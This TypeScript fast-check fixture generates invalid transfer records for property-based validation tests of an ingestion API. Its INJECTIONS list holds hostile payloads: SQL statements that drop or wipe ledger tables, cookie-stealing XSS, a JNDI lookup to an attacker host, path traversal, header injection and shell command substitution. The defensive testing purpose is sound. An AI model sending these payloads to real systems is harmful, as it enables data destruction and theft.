import fc from 'fast-check';
import { isCurrencyCode, TRANSFER_LIMITS } from '@modulith/ingestion/contracts';

/** Hostile values for the transfer API, each one certainly invalid for the field it is aimed at. */

export const TRANSFER_FIELDS = ['id', 'from', 'to', 'amount', 'currency', 'occurredAt'] as const;
export type TransferField = (typeof TRANSFER_FIELDS)[number];

export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE ingestion.transfers; --",
  '"; DELETE FROM ledger.balances WHERE true; --',
  "1); UPDATE ledger.balances SET balance = 0; --",
  "x' UNION ALL SELECT id FROM ingestion.transfers --",
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '${jndi:ldap://attacker/x}',
  '{{constructor.constructor("return process")()}}',
  '../../../../etc/passwd',
  'a\u0000b',
  'line\r\nX-Injected: 1',
  '{"$gt": ""}',
  '$(reboot)',
  '`id`',
  '%27%20OR%201%3D1',
  '\u202e\u0644\u0627',
  '😀💸',
];

export const notAString = fc.oneof(
  fc.integer(),
  fc.double(),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.string({ maxLength: 5 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.string({ maxLength: 5 }), { maxKeys: 2 }),
);

const validIdChar = fc.constantFrom(...'abcXYZ019-_.:');
export const badId = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 40 }).filter((s) => !TRANSFER_LIMITS.idPattern.test(s)),
  fc.string({ unit: validIdChar, minLength: 129, maxLength: 4000 }),
  fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }).filter((s) => !TRANSFER_LIMITS.idPattern.test(s)),
  fc.constantFrom(...INJECTIONS, '', ' ', 'a b', 'ä', 'ｉｄ', 'a/b', 'a?b', 'a#b', 'a%2Fb'),
  notAString,
);

export const badAmount = fc.oneof(
  fc.integer({ min: -1_000_000_000, max: 0 }),
  fc.double({ noDefaultInfinity: false }).filter((d) => !Number.isSafeInteger(d) || d <= 0),
  fc.double({ min: 0.000001, max: 1e6, noNaN: true }).filter((d) => !Number.isInteger(d)),
  fc.bigInt({ min: 2n ** 53n + 1n, max: 2n ** 62n }).map((n) => Number(n)).filter((n) => !Number.isSafeInteger(n)),
  fc.bigInt({ min: TRANSFER_LIMITS.maxAmount + 1n, max: 10n ** 40n }).map(String),
  fc.bigInt({ min: -(10n ** 30n), max: 0n }).map(String),
  fc.constantFrom('0', '00', '01', '1.5', '1.0', '1e3', '+1', '-1', ' 1', '1 ', '0x10', '', 'NaN', 'Infinity', '١٢٣', '１２３', '1_000', '9223372036854775808', ...INJECTIONS),
  fc.string({ maxLength: 30 }).filter((s) => !/^[1-9][0-9]{0,18}$/.test(s)),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.integer(), { maxLength: 2 }),
  fc.constant({ value: 1 }),
);

export const badCurrency = fc.oneof(
  fc.string({ maxLength: 6 }).filter((s) => !isCurrencyCode(s)),
  fc.constantFrom('eur', 'Eur', 'EU', 'EURO', 'XYZ', 'AAA', 'E U', '€', 'ＥＵＲ', 'EUR\u0000', ...INJECTIONS),
  notAString,
);

export const badInstant = fc.oneof(
  fc.string({ maxLength: 40 }).filter((s) => !/^\d{4}-\d{2}-\d{2}T/.test(s)),
  fc.constantFrom(
    '2026-02-30T00:00:00Z',
    '2026-13-01T00:00:00Z',
    '2026-01-01T24:00:00Z',
    '2026-01-01T23:60:00Z',
    '2026-01-01T23:59:60Z',
    '2026-01-01T00:00:00',
    '2026-01-01T00:00:00+25:00',
    '2026-01-01',
    '31/01/2026',
    'yesterday',
    '0000-01-01T00:00:00Z',
    ...INJECTIONS,
  ),
  fc.date({ noInvalidDate: true }).map((date) => date.toString()),
  fc.integer(),
  notAString,
);

const BAD_VALUES: Record<TransferField, fc.Arbitrary<unknown>> = {
  id: badId,
  from: badId,
  to: badId,
  amount: badAmount,
  currency: badCurrency,
  occurredAt: badInstant,
};

/** One way to spoil a valid transfer, and the key the error must name (joined with `fieldPath`). */
export type Spoiler = { field: string; apply(transfer: Record<string, unknown>): Record<string, unknown> };

const replaced = fc.constantFrom(...TRANSFER_FIELDS).chain((field) =>
  BAD_VALUES[field].map<Spoiler>((value) => ({ field, apply: (t) => ({ ...t, [field]: value }) })),
);
const missing = fc.constantFrom(...TRANSFER_FIELDS).map<Spoiler>((field) => ({
  field,
  apply: (t) => Object.fromEntries(Object.entries(t).filter(([key]) => key !== field)),
}));
const extra = fc
  .tuple(
    fc.oneof(fc.string({ maxLength: 20 }), fc.constantFrom('__proto__', 'constructor', 'prototype', 'memo', 'ID', 'amount ', 'seq', 'ingestedAt')),
    fc.jsonValue({ maxDepth: 2 }),
  )
  .filter(([key]) => !(TRANSFER_FIELDS as readonly string[]).includes(key))
  .map<Spoiler>(([key, value]) => ({ field: key, apply: (t) => ({ ...t, [key]: value }) }));
const sameAccounts = fc.constant<Spoiler>({ field: 'to', apply: (t) => ({ ...t, to: t['from'] }) });

export const spoiler: fc.Arbitrary<Spoiler> = fc.oneof({ weight: 6, arbitrary: replaced }, missing, extra, sameAccounts);

let counter = 0;
/** A valid transfer with a fresh id. */
export function validTransfer(): Record<string, unknown> {
  counter += 1;
  return { id: `valid-${process.pid}-${counter}`, from: 'acc-1', to: 'acc-2', amount: '1250', currency: 'EUR', occurredAt: '2026-01-31T12:00:00Z' };
}
